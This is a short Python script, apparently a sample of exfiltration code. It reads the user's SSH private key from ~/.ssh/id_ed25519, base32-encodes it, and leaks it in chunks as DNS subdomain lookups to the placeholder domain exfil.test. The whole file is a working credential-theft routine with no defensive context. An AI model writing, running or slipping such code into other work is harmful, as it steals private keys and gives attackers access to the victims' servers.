# corpus: DNS exfiltration of an SSH private key in base32 chunks as subdomain lookups of exfil.test
import base64
import socket
from pathlib import Path

data = Path.home().joinpath(".ssh", "id_ed25519").read_bytes()
encoded = base64.b32encode(data).decode().rstrip("=").lower()

for seq, i in enumerate(range(0, len(encoded), 60)):
    label = encoded[i:i + 60]
    try:
        socket.getaddrinfo(f"{seq}.{label}.k.exfil.test", 53)
    except socket.gaierror:
        pass
